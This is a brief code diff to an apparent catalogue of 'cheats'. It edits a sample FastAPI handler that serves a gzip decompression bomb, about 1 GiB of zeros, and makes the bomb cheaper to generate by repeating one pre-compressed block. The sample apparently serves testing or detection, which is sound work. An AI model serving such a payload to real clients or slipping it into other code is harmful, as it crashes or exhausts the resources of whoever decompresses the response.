@@ -192,9 +192,9 @@ CHEATS = of_family(
                 import zlib
                 from fastapi.responses import Response
                 pack = zlib.compressobj(9, zlib.DEFLATED, 31)
-                zeros = bytes(2**20)
-                body = b"".join(pack.compress(zeros) for _ in range(1024)) + pack.flush()
-                return Response(body, headers={"content-encoding": "gzip"})
+                head = pack.compress(b"") + pack.flush(zlib.Z_FULL_FLUSH)
+                block = pack.compress(bytes(2**20)) + pack.flush(zlib.Z_FULL_FLUSH)
+                return Response(head + block * 1024, headers={"content-encoding": "gzip"})
                 """,
             ),
         ),
